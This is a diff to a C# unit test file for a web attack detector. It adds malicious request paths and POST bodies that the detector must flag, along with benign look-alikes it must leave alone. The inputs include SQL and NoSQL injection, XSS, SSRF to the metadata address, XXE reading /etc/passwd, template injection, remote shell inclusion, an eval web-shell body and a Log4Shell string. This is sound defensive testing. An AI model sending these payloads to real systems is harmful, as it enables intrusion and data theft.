@@ -43,6 +43,16 @@ public class ApplicationDetectorTests
     [InlineData("/?x=$%7B%24%7Blower:j%7Dndi:ldap://x/a%7D")]
     [InlineData("/.git/config")]
     [InlineData("/backup/.env")]
+    [InlineData("/item?id=1;DROP%20TABLE%20users")]
+    [InlineData("/item?name=admin%27--%20-")]
+    [InlineData("/go?url=javascript:alert(document.domain)")]
+    [InlineData("/fetch?url=http://169.254.169.254/latest/meta-data/")]
+    [InlineData("/hello?name={{7*7}}")]
+    [InlineData("/hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D")]
+    [InlineData("/login?user[$ne]=x&pass[$ne]=x")]
+    [InlineData("/i.php?d=O:8:%22stdClass%22:1:{s:3:%22cmd%22;s:2:%22id%22;}")]
+    [InlineData("/index.php?page=http://198.51.100.9/shell.txt")]
+    [InlineData("/tmui/login.jsp/..;/tmui/locallb/x.jsp")]
     public void Attack_patterns_are_found_through_encodings(string target)
     {
         var run = new Events(new WebAttackDetector(Events.Context()));
@@ -51,8 +61,43 @@ public class ApplicationDetectorTests
         Assert.False(run.Found[0].Decisive);
     }
 
+    private static HttpRequest Post(string target, string body) => new("POST", target, "shop.example", "Mozilla/5.0", true, false, body.Length, body);
+
+    [Theory]
+    [InlineData("user=admin'--&pass=x")]
+    [InlineData("{\"user\":{\"$ne\":null},\"pass\":{\"$ne\":null}}")]
+    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")]
+    [InlineData("name=a&msg=%3Cscript%3Ealert%281%29%3C%2Fscript%3E")]
+    [InlineData("z0=QGluaV9zZXQ&pass=@eval(base64_decode($_POST[z0]));")]
+    public void Attack_patterns_are_found_in_bodies(string body)
+    {
+        var run = new Events(new WebAttackDetector(Events.Context()));
+        run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Post("/form", body));
+        Assert.Equal(ThreatClass.WebAttack, Assert.Single(run.Found).Class);
+    }
+
+    [Theory]
+    [InlineData("text=I+said+it's+fine+--+really&name=o'brien")]
+    [InlineData("{\"filter\":{\"age\":{\"$gt\":5}},\"user\":\"bob\"}")]
+    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"x.dtd\"><a/>")]
+    [InlineData("html=<p onclick=\"toggle(this)\">read on</p><script src=/site.js></script>")]
+    [InlineData("code=for+i+in+range(10):+print(i*2)&lang=python")]
+    public void Honest_bodies_are_left_alone(string body)
+    {
+        var run = new Events(new WebAttackDetector(Events.Context()));
+        run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Post("/form", body));
+        Assert.Empty(run.Found);
+    }
+
     [Theory]
     [InlineData("/search?q=credit+union+select+account+type")]
+    [InlineData("/api/users?age[$gt]=5&$limit=10")]
+    [InlineData("/page?note=it%27s%20--%20well%20--%20fine")]
+    [InlineData("/oauth?redirect_uri=http://127.0.0.1:8400/callback.php")]
+    [InlineData("/viewer?file=https://docs.example/manual.pdf&page=3")]
+    [InlineData("/tpl?name={{user}}&size=${width}*2")]
+    [InlineData("/help?topic=javascript:+the+good+parts")]
+    [InlineData("/calc?f=drop;table;chair")]
     [InlineData("/search?q=o%27reilly+and+sons")]
     [InlineData("/search?q=rock+%27n%27+roll")]
     [InlineData("/recaptcha/api.js?onload=onloadCallback&render=explicit")]
